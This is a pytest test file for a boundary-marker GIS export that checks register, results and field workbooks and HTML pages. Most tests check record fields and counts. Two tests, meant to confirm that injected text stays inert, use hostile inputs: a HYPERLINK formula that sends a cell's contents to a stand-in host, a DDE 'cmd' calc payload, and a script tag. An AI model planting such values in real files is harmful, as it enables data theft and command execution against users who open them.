from __future__ import annotations

from dataclasses import replace
from io import BytesIO

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from gis.errors import NotFound
from gis.export.field_sheets import field_book
from gis.export.marker_forms import register_book, results_book
from gis.markers.form import sections
from gis.markers.results import results
from gis.markers.sheet import counts
from maps.field_sheet import field_page
from maps.line_sheet import line_sheet
from maps.marker_forms import register_page, results_page
from tests.gis.sheets import form, marker, sheet

CODES = [
    "JZBH", "JZMC", "KJSJBSM", "JXDM", "JZDJ", "JZLX", "JZCZ", "ZZB", "HZB", "JD", "WD", "GC", "SZD1", "SZD2",
    "XZQ1", "XZQ2", "WZMS", "WZLT", "DJBSM", "ZP", "YX", "BGLSJL", "SFGK", "TGDW",
]  # fmt: skip
LINE_CODES = [
    "JXDM", "KJSJBSM", "JXDJ", "JXMC", "JXCD", "JXQD", "JXZD", "JZKS", "DLZKS", "SLZKS", "SANLZKS", "QTXX", "SFZY",
]  # fmt: skip
WORDS = [
    "界桩编号", "界桩名称", "空间数据标识码", "界线代码", "等级", "类型", "材质", "纵坐标", "横坐标", "经度", "纬度",
    "高程", "所在地1", "所在地2", "行政区1", "行政区2", "位置描述", "位置略图", "登记表扫描", "照片", "影像",
    "A方技术人员", "A方勘界办人员", "A方签字时间", "B方技术人员", "B方勘界办人员", "B方签字时间",
    "三交点协议", "三交点图片", "三交点纪要", "变更历史记录", "是否公开", "托管单位",
    "设备编号", "在线状态", "最新报文时间", "倾斜", "低电量", "漂移距离",
]  # fmt: skip
"""Every field of the national record (DOMAIN §2.4)."""
AT = (120.95123456, 32.06123456)
EVIL = '=HYPERLINK("http://x.example/?"&A1)'


def opened(content: bytes) -> Workbook:
    return load_workbook(BytesIO(content))


def words_of(page: Worksheet) -> list[str]:
    return [str(cell) for row in page.iter_rows(values_only=True) for cell in row if cell is not None]


def test_the_form_has_every_field_of_the_national_record_in_its_order() -> None:
    one = form(marker(1, AT))
    text = "\n".join(words_of(opened(register_book([one], "x")).worksheets[0]))
    for page in (text, register_page([one], "x")):
        assert [word for word in (*WORDS, *CODES) if word not in page] == []
    order = [entry.code for section in sections(one) for entry in section.entries if entry.code in CODES]
    assert order == CODES


def test_the_form_shows_what_the_register_holds() -> None:
    one = form(marker(1, AT))
    for page in ("\n".join(words_of(opened(register_book([one], "x")).worksheets[0])), register_page([one], "x")):
        for value in ("3206020612001Q", "KJ0001", "120.95123456", "585432.123", "3.456", "陈桥街道育爱村", "水闸东北角",
                      "磁方位角", "123.5", "12.3", "赵一", "三交协〔1997〕1号", "IOT-9", "本地值", "a.jpg；b.jpg",
                      "通州区", "EPSG:4549"):  # fmt: skip
            assert value in page, value


def test_three_sides_where_three_meet() -> None:
    triple = marker(2, AT, "C", shape="three_sided", sides=("甲", "乙", "丙"), located_in=("一", "二", "三"))
    for page in (
        register_page([form(triple)], "x"),
        "".join(words_of(opened(register_book([form(triple)], "x")).worksheets[0])),
    ):
        assert [
            word for word in ("所在地3", "行政区3", "C方技术人员", "C方勘界办人员", "C方签字时间") if word not in page
        ] == []
    assert "C方技术人员" not in register_page([form(marker(1, AT))], "x")


def test_a_marker_of_which_little_is_known_gives_a_form_with_blanks() -> None:
    bare = replace(
        marker(1, AT), name=None, grade=None, shape=None, material=None, original=None, height_m=None,
        height_datum=None, accuracy_m=None, sides=(), side_units=(), located_in=(), managed_by=None,
        position_text=None, reference_objects=(), record={}, set_on=None, valid_from=None,
    )  # fmt: skip
    book = opened(register_book([form(bare)], "x"))
    assert [word for word in WORDS if word not in "\n".join(words_of(book.worksheets[0]))] == []
    assert register_page([form(bare)], "x").count("<tr") > 20


def test_one_marker_a_sheet_though_two_bear_one_number() -> None:
    one = marker(1, AT)
    book = opened(register_book([form(one), form(replace(one, marker_id="other")), form(marker(2, AT))], "x"))
    assert book.sheetnames == ["3206020612001Q", "3206020612001Q-2", "3206020612002Q"]
    assert register_page([form(one), form(one)], "x").count('<section class="sheet form">') == 2
    with pytest.raises(NotFound):
        register_book([], "x")


def test_text_that_looks_like_a_formula_stays_text() -> None:
    """In every workbook, whatever the sign it begins with."""
    signs = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
    found = sheet(stones=len(signs))
    bad = [
        replace(placed.marker, name=sign, note=sign, material=sign, position_text=sign, record={"KJSJBSM": sign})
        for placed, sign in zip(found.markers, signs, strict=True)
        if placed.marker is not None
    ]
    markers = tuple(replace(placed, marker=one, name=one.name) for placed, one in zip(found.markers, bad, strict=True))
    evil = replace(found, markers=markers, official_name=EVIL, description=EVIL, side_b=EVIL)
    for content in (register_book([form(one) for one in bad], EVIL), results_book(evil), field_book(evil, 2026)):
        seen = 0
        for page in opened(content).worksheets:
            for row in page.iter_rows():
                for cell in row:
                    assert cell.data_type != "f"
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t")):
                        assert cell.quotePrefix
                        seen += 1
        assert seen >= 1


def test_text_that_looks_like_a_page_stays_text() -> None:
    tag = '<script>alert("x")</script>'
    found = sheet(stones=1)
    one = replace(
        marker(1, AT), name=tag, note=tag, material=tag, position_text=tag, sides=(tag,), located_in=(tag,), source=tag,
        reference_objects=(replace(marker(1, AT).reference_objects[0], name=tag),), record={tag: tag},
    )  # fmt: skip
    evil = replace(
        found, markers=(replace(found.markers[0], marker=one, name=tag),), official_name=tag, side_a=tag, start=tag,
        description=tag, sources=(tag,), printed_by=tag,
    )  # fmt: skip
    for page in (register_page([form(one)], tag), results_page(evil), line_sheet(evil), field_page(evil, 2026)):
        assert "<script" not in page
        assert "&lt;script" in page


def test_codes_and_numbers_of_markers_are_text_cells() -> None:
    book = opened(results_book(sheet(stones=3)))
    column = [
        cell for cell in next(book.active.iter_cols(min_col=2, max_col=2)) if str(cell.value).startswith("3206020612")
    ]
    assert [(cell.data_type, cell.number_format) for cell in column] == [("s", "@")] * 3


def test_the_result_table_holds_every_marker_and_its_counts_add_up() -> None:
    found = results(sheet(stones=8))
    assert len(found.rows) == 8
    record = {code: value for code, _, value in found.record}
    assert (record["JZKS"], record["DLZKS"], record["SLZKS"], record["SANLZKS"]) == ("8", "8", "0", "0")
    assert "相符" in found.check
    assert list(record) == LINE_CODES
    assert [code for code in LINE_CODES if code not in results_page(sheet(stones=2))] == []


def test_pairs_and_triples_that_lack_a_stone_are_told() -> None:
    whole = counts([("c", 1, "Q"), ("c", 2, "A"), ("c", 2, "B"), *[("c", 3, x) for x in "CDE"]])
    assert (whole.markers, whole.single, whole.double, whole.triple, whole.faults) == (6, 1, 2, 3, ())
    assert whole.adds_up
    torn = counts([("c", 2, "A"), ("c", 3, "C"), ("c", 3, "D"), ("c", 4, "Q"), ("c", 4, "Q")])
    assert torn.faults == ("c002：A", "c003：C、D", "c004：Q、Q")


def test_made_up_data_is_called_so_in_every_workbook_and_on_every_printed_page() -> None:
    found = sheet(stones=2)
    for content in (register_book([form(marker(1, AT))], "x"), results_book(found), field_book(found, 2026)):
        for page in opened(content).worksheets:
            if page.sheet_state == "visible":
                assert any("演示数据" in word and "内部资料" in word for word in words_of(page)[:4])
                assert "演示数据" in str(page.oddFooter.left.text)
    real = replace(found, markers=())
    assert not real.made_up
    assert "演示数据" not in line_sheet(real)
